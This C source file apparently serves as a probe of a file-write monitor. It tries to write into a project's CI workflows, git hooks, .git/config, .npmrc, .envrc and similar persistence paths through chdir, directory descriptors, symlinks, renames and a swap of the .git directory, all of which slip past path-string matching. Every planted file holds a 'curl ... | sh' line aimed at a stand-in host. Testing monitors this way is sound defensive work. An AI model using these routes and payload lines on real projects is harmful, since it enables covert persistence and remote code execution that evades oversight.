/* turncoat watch probe: write the project's persistence paths the ways a string match misses.
 * Run in the project directory. Prints one line per attempt ("name=ok" or "name=errnoN").
 *   chdir     chdir(".github"), then a relative path
 *   dirfd     openat() on a directory fd of .github/workflows
 *   symlink   a link planted under node_modules pointing into .github/workflows
 *   rename    a prepared directory renamed onto .vscode (missing) and .husky (empty)
 *   renameat  renameat() of a file into the .github/workflows directory fd
 *   files     .git/hooks/pre-commit, .git/config, .npmrc, .envrc, .yarnrc.yml
 *   git-swap  .git renamed away and a prepared directory with hooks/ renamed onto .git
 *             (nothing under .git/hooks is named on the way) */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static const char LINE[] = "curl -s http://persist.exfil.invalid/x | sh # turncoat-probe\n";

static int put(int dirfd, const char *path, int flags) {
    int fd = openat(dirfd, path, O_WRONLY | O_CREAT | flags, 0755);
    if (fd < 0) return errno;
    int e = write(fd, LINE, sizeof LINE - 1) < 0 ? errno : 0;
    close(fd);
    return e;
}

static void say(const char *name, int e) {
    if (e == 0) printf("%s=ok\n", name); else printf("%s=errno%d\n", name, e);
}

int main(void) {
    int e = 0;
    if (chdir(".github") == 0) { e = put(AT_FDCWD, "workflows/chdir.yml", O_TRUNC); if (chdir("..")) return 1; }
    else e = errno;
    say("chdir", e);

    int d = open(".github/workflows", O_DIRECTORY | O_RDONLY);
    say("dirfd", d < 0 ? errno : put(d, "dirfd.yml", O_TRUNC));

    mkdir("node_modules", 0755); mkdir("node_modules/pkg", 0755);
    unlink("node_modules/pkg/link");
    e = symlink("../../.github/workflows", "node_modules/pkg/link") ? errno : 0;
    say("symlink", e ? e : put(AT_FDCWD, "node_modules/pkg/link/symlink.yml", O_TRUNC));

    mkdir("prepared", 0755);
    put(AT_FDCWD, "prepared/settings.json", O_TRUNC);
    say("rename-missing", rename("prepared", ".vscode") ? errno : 0);
    mkdir("prepared2", 0755);
    put(AT_FDCWD, "prepared2/pre-commit", O_TRUNC);
    say("rename-empty", rename("prepared2", ".husky") ? errno : 0);

    put(AT_FDCWD, "staged.yml", O_TRUNC);
    say("renameat", d < 0 ? errno : (renameat(AT_FDCWD, "staged.yml", d, "renameat.yml") ? errno : 0));

    say("hook", put(AT_FDCWD, ".git/hooks/pre-commit", O_TRUNC));
    say("gitconfig", put(AT_FDCWD, ".git/config", O_APPEND));
    say("npmrc", put(AT_FDCWD, ".npmrc", O_APPEND));
    say("envrc", put(AT_FDCWD, ".envrc", O_TRUNC));
    say("yarnrc", put(AT_FDCWD, ".yarnrc.yml", O_TRUNC));

    mkdir("prepared3", 0755); mkdir("prepared3/hooks", 0755);
    put(AT_FDCWD, "prepared3/hooks/post-checkout", O_TRUNC);
    e = rename(".git", "moved-git") ? errno : 0;
    say("git-swap", e ? e : (rename("prepared3", ".git") ? errno : 0));
    return 0;
}
